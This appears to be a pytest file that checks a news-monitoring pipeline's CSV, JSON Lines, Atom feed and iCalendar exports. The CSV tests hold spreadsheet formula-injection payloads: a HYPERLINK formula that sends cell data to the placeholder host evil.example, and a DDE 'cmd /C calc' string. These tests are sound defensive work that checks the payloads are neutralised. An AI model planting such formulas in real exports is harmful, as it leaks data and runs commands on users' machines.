"""Exports (CSV, JSON Lines; API and CLI), Atom feeds and the iCalendar: they parse back to what the API says."""

from __future__ import annotations

import csv
import io
import json

import feedparser
import pytest
from lxml import etree
from sqlalchemy import text

from pipeline.api.exports import EVENT_COLUMNS, STORY_COLUMNS, safe_cell
from pipeline.store import Store
from tests.api.test_api_access import cli
from tests.api.test_api_read import all_events, assert_error
from tests.support.newsroom import IMG_PAYLOAD, SCRIPT_PAYLOAD

ATOM = "{http://www.w3.org/2005/Atom}"


def all_stories(client, **params) -> list[dict]:
    body = client.get("/api/stories", params={"limit": 500, **params}).json()
    assert body["next_cursor"] is None
    return body["stories"]


def unguard(cell: str) -> str:
    return cell[1:] if cell[:2] in ("'=", "'+", "'-", "'@", "'\t", "'\r") else cell


def csv_rows(body: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body, newline="")))


def as_csv(obj: dict, columns: tuple[str, ...]) -> dict[str, str]:
    cells = {}
    for column in columns:
        value = obj[column]
        if value is None:
            cells[column] = ""
        elif isinstance(value, list):
            cells[column] = ";".join(value)
        else:
            cells[column] = str(value)
    return cells


@pytest.mark.parametrize("kind", ["events", "stories"])
def test_jsonl_exports_are_the_api_objects_one_per_line(client, kind):
    want = all_events(client) if kind == "events" else all_stories(client)
    response = client.get(f"/api/export/{kind}.jsonl")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("application/x-ndjson")
    assert f'filename="regwatch-{kind}.jsonl"' in response.headers["content-disposition"]
    lines = response.text.splitlines()
    assert [json.loads(line) for line in lines] == want


@pytest.mark.parametrize("kind", ["events", "stories"])
def test_csv_exports_parse_back_with_the_csv_module(client, kind):
    want = all_events(client) if kind == "events" else all_stories(client)
    columns = EVENT_COLUMNS if kind == "events" else STORY_COLUMNS
    response = client.get(f"/api/export/{kind}.csv")
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    rows = csv_rows(response.text)
    assert list(rows[0]) == list(columns)
    assert [{k: unguard(v) for k, v in row.items()} for row in rows] == [as_csv(obj, columns) for obj in want]


def test_exports_take_the_filters(client):
    want = all_events(client, source="regulators", since="2025-09-01")
    lines = client.get("/api/export/events.jsonl", params={"source": "regulators", "since": "2025-09-01"}).text
    assert want and [json.loads(line) for line in lines.splitlines()] == want
    stories = all_stories(client, jurisdiction="GB")
    rows = csv_rows(client.get("/api/export/stories.csv", params={"jurisdiction": "GB"}).text)
    assert stories and [int(row["id"]) for row in rows] == [story["id"] for story in stories]


def test_exports_read_in_batches_give_the_pages_in_order(client):
    from pipeline.api import queries
    from pipeline.api.filters import build_filter

    store = client.app.state.store
    for filters in (build_filter(), build_filter(source="wire"), build_filter(jurisdiction="US", since="2025")):
        events = list(queries.iter_events(store, filters, batch=2))
        assert events == all_events(client, **{k: v for k, v in (("source", filters.source),
                                                                  ("jurisdiction", filters.jurisdiction)) if v}
                                    | ({"since": "2025"} if filters.since else {}))
        stories = list(queries.iter_stories(store, filters, batch=3))
        pages = queries.stories_page(store, filters, limit=500)
        assert stories == pages.items and pages.next_cursor is None


def test_csv_cells_that_a_spreadsheet_would_run_are_quoted():
    assert safe_cell('=HYPERLINK("http://evil.example","x")') == '\'=HYPERLINK("http://evil.example","x")'
    for payload in ("+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        assert safe_cell(payload) == "'" + payload
    assert safe_cell(-2.5) == -2.5 and safe_cell(3) == 3 and safe_cell(None) == ""
    assert safe_cell(["=1", "US"]) == "'=1;US"
    assert safe_cell("Zoom = partner-only") == "Zoom = partner-only"


def test_formula_payloads_in_stored_text_are_neutralised_in_csv_but_kept_in_jsonl(writable_client, writable_url):
    payload = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    with Store.open(writable_url) as store, store.engine.begin() as conn:
        event_id = conn.execute(text("SELECT MIN(id) FROM event")).scalar_one()
        conn.execute(text("UPDATE event SET actor = :actor, evidence = :evidence WHERE id = :id"),
                     {"actor": payload, "evidence": "@SUM(1+1)*cmd|' /C calc'!A0", "id": event_id})
    rows = {int(row["id"]): row for row in csv_rows(writable_client.get("/api/export/events.csv").text)}
    assert rows[event_id]["actor"] == "'" + payload
    assert rows[event_id]["evidence"].startswith("'@SUM")
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows.values() for cell in row.values()
               if not cell.lstrip("-").replace(".", "", 1).isdigit())
    lines = [json.loads(line) for line in writable_client.get("/api/export/events.jsonl").text.splitlines()]
    assert next(e for e in lines if e["id"] == event_id)["actor"] == payload


def test_the_export_command_writes_the_same_rows(client, tmp_path):
    url = client.app.state.store.engine.url.render_as_string(hide_password=False)
    target = tmp_path / "out" / "events.csv"
    result = cli(url, tmp_path, "export", "events", "--format", "csv", "--output", str(target),
                 "--source", "regulators")
    assert result.exit_code == 0, result.output
    exported = target.read_bytes().decode("utf-8")
    assert client.get("/api/export/events.csv", params={"source": "regulators"}).text == exported
    assert f"{len(all_events(client, source='regulators'))} events" in result.output
    result = cli(url, tmp_path, "export", "stories", "--format", "jsonl", "--since", "2025-01-01")
    assert result.exit_code == 0, result.output
    assert [json.loads(line) for line in result.stdout.splitlines()] == all_stories(client, since="2025-01-01")
    bad = cli(url, tmp_path, "export", "events", "--jurisdiction", "Narnia")
    assert bad.exit_code == 1 and "jurisdiction: unknown jurisdiction 'Narnia'" in bad.output
    assert cli(url, tmp_path, "export", "things").exit_code == 2
    assert cli(url, tmp_path, "export", "events", "--format", "xlsx").exit_code == 2


# -- Atom --------------------------------------------------------------------------------------------------------


def test_a_search_feed_parses_back_and_keeps_payloads_as_text(client):
    search = client.get("/api/search", params={"q": "children", "limit": 50}).json()
    response = client.get("/feeds/search.atom", params={"q": "children"})
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("application/atom+xml")
    parsed = feedparser.parse(response.content)
    assert not parsed.bozo, parsed.get("bozo_exception")
    assert parsed.feed.title == "regwatch: children"
    assert [entry.id for entry in parsed.entries] == [f"urn:regwatch:story:{hit['story_id']}"
                                                       for hit in search["hits"]]
    assert [entry.link for entry in parsed.entries] == [hit["url"] for hit in search["hits"]]
    root = etree.fromstring(response.content)
    titles = [node.text for node in root.iter(f"{ATOM}title")][1:]
    assert titles == [hit["title"] for hit in search["hits"]]
    payload = [title for title in titles if SCRIPT_PAYLOAD in title]
    assert payload and IMG_PAYLOAD in payload[0]
    assert b"<script>" not in response.content and b"<img " not in response.content
    assert b"&lt;script&gt;" in response.content


def test_a_feed_for_a_bad_query_is_a_400(client):
    assert_error(client.get("/feeds/search.atom", params={"q": '"open'}), 400, "quote")
    assert_error(client.get("/feeds/saved/nothing-saved.atom"), 404, "nothing-saved")


def test_a_saved_search_has_its_feed(writable_client, writable_url):
    from pipeline.search.saved import save

    with Store.open(writable_url) as store:
        save(store, "children-data", "children -Disney")
    response = writable_client.get("/feeds/saved/children-data.atom")
    assert response.status_code == 200
    parsed = feedparser.parse(response.content)
    want = writable_client.get("/api/search", params={"q": "children -Disney", "limit": 50}).json()["hits"]
    assert parsed.feed.title == "regwatch: children-data"
    assert [entry.id for entry in parsed.entries] == [f"urn:regwatch:story:{hit['story_id']}" for hit in want]
    assert want and all("Disney" not in entry.title for entry in parsed.entries)


# -- iCalendar ---------------------------------------------------------------------------------------------------


def test_the_calendar_lists_upcoming_effective_dates(writable_client, writable_url):
    with Store.open(writable_url) as store, store.engine.begin() as conn:
        event_id, event_type = conn.execute(text("SELECT id, type FROM event ORDER BY id LIMIT 1")).one()
        conn.execute(text("UPDATE event SET effective_date = '2099-01-15' WHERE id = :id"), {"id": event_id})
    response = writable_client.get("/calendar.ics")
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/calendar")
    body = response.text
    assert body.startswith("BEGIN:VCALENDAR\r\n") and body.endswith("END:VCALENDAR\r\n")
    events = body.split("BEGIN:VEVENT")[1:]
    mine = [e for e in events if f"-event-{event_id}@regwatch" in e]
    assert len(mine) == 1 and "DTSTART;VALUE=DATE:20990115" in mine[0]
    assert event_type.replace("_", " ") in mine[0].replace("\r\n ", "")
